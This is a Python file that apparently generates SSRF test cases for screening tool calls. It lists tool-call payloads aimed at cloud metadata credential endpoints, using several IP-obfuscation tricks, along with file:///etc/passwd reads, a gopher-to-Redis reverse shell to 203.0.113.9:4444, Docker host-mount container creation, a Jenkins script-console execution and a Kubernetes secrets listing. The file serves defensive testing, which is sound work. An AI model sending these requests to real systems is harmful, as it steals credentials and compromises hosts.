import json
from common import case, fn_call

F = "ssrf"
SRC = "handwritten (ideas: PayloadsAllTheThings SSRF, cloud metadata docs)"


def cases():
    c = []
    c.append(case(F, "AWS IMDS IAM credentials path", "http.fetch",
                  {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}, SRC))
    c.append(case(F, "GCP metadata token with Metadata-Flavor header", "http.fetch",
                  {"url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
                   "headers": {"Metadata-Flavor": "Google"}}, SRC))
    c.append(case(F, "Azure IMDS managed identity token", "http.fetch",
                  {"url": "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
                   "headers": {"Metadata": "true"}}, SRC))
    c.append(case(F, "decimal-integer IP for 169.254.169.254", "http.fetch",
                  {"url": "http://2852039166/latest/user-data"}, SRC))
    c.append(case(F, "hex IP 0xA9FEA9FE", "browser.open",
                  {"url": "http://0xa9fea9fe/latest/meta-data/hostname"}, SRC))
    c.append(case(F, "octal dotted IP", "http.fetch",
                  {"url": "http://0251.0376.0251.0376/latest/api/token", "method": "PUT",
                   "headers": {"X-aws-ec2-metadata-token-ttl-seconds": "21600"}}, SRC))
    c.append(case(F, "IPv4-mapped IPv6 for metadata", "http.fetch",
                  {"url": "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/info"}, SRC))
    c.append(case(F, "AWS IMDS IPv6 endpoint", "http.fetch",
                  {"url": "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/ec2-app-role"}, SRC))
    c.append(case(F, "gopher to Redis with CRLF commands", "http.fetch",
                  {"url": "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2456%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20/dev/tcp/203.0.113.9/4444%200%3E%261%0A%0A%0A%0D%0A"}, SRC))
    c.append(case(F, "file:// scheme local file read", "http.fetch",
                  {"url": "file:///etc/passwd"}, SRC))
    c.append(case(F, "dict:// to memcached", "http.fetch",
                  {"url": "dict://127.0.0.1:11211/stats"}, SRC))
    c.append(case(F, "Docker daemon API on loopback", "http.fetch",
                  {"url": "http://localhost:2375/containers/json?all=1"}, SRC))
    c.append(case(F, "DNS-rebinding host (rbndr-style)", "webhook.register",
                  {"event": "invoice.paid", "callback_url": "http://7f000001.a9fea9fe.rbndr.us:8080/admin/reset"}, SRC))
    c.append(case(F, "wildcard DNS resolving to metadata (nip.io)", "http.fetch",
                  {"url": "http://169.254.169.254.nip.io/latest/meta-data/"}, SRC))
    c.append(case(F, "userinfo confusion: trusted host before @", "link.preview",
                  {"url": "https://docs.trusted-cdn.com@127.0.0.1:8500/v1/kv/?recurse"}, SRC))
    c.append(case(F, "short-form loopback 127.1 to admin panel", "http.fetch",
                  {"url": "http://127.1:8080/actuator/env"}, SRC))
    c.append(case(F, "0.0.0.0 to internal admin", "http.fetch",
                  {"url": "http://0.0.0.0:9200/_cat/indices?v"}, SRC))
    c.append(case(F, "enclosed-alphanumeric Unicode digits for loopback", "browser.open",
                  {"url": "http://①②⑦.⓪.⓪.①:6443/api/v1/secrets"}, SRC))
    c.append(case(F, "percent-encoded host octets", "http.fetch",
                  {"url": "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"}, SRC))
    c.append(case(F, "Kubernetes API from pod: list secrets", "http.fetch",
                  {"url": "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "verify_tls": False}, SRC))
    c.append(case(F, "private RFC1918 Spring actuator heapdump", "http.fetch",
                  {"url": "http://10.0.12.7:8081/actuator/heapdump"}, SRC))
    c.append(case(F, "Alibaba Cloud metadata 100.100.100.200", "http.fetch",
                  {"url": "http://100.100.100.200/latest/meta-data/ram/security-credentials/"}, SRC))
    c.append(case(F, "ECS task credentials endpoint 169.254.170.2", "http.fetch",
                  {"url": "http://169.254.170.2/v2/credentials/4b1c8e55-9d2a-4c1f-a1f0-6c0b3e2d7f10"}, SRC))
    c.append(case(F, "JSON-in-JSON function call fetching metadata", "llm.tool_call",
                  fn_call("fetch_url", {"url": "http://169.254.169.254/latest/user-data", "render": False}), SRC))
    c.append(case(F, "open redirect chained to metadata", "http.fetch",
                  {"url": "https://login.partner-sso.com/logout?next=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
                   "follow_redirects": True}, SRC))
    c.append(case(F, "IPv6 loopback bracket form to Consul", "http.fetch",
                  {"url": "http://[::1]:8500/v1/agent/self"}, SRC))
    c.append(case(F, "mixed-notation IP 169.254.43518", "image.fetch_thumbnail",
                  {"source_url": "http://169.254.43518/latest/meta-data/public-keys/0/openssh-key", "size": 128}, SRC))
    c.append(case(F, "PDF renderer fetching internal URL via HTML iframe", "pdf.render_html",
                  {"html": "<html><body><h1>Invoice</h1><iframe src=\"http://192.168.1.1/cgi-bin/config.exp\" width=800 height=600></iframe></body></html>"}, SRC))
    c.append(case(F, "Docker bridge gateway host API", "http.fetch",
                  {"url": "http://172.17.0.1:2375/v1.41/containers/create", "method": "POST",
                   "body": "{\"Image\":\"alpine\",\"HostConfig\":{\"Binds\":[\"/:/host\"]}}"}, SRC))
    c.append(case(F, "localtest.me loopback alias to internal Jenkins script console", "http.fetch",
                  {"url": "http://localtest.me:8080/script", "method": "POST",
                   "body": "script=println(%22id%22.execute().text)"}, SRC))
    return c
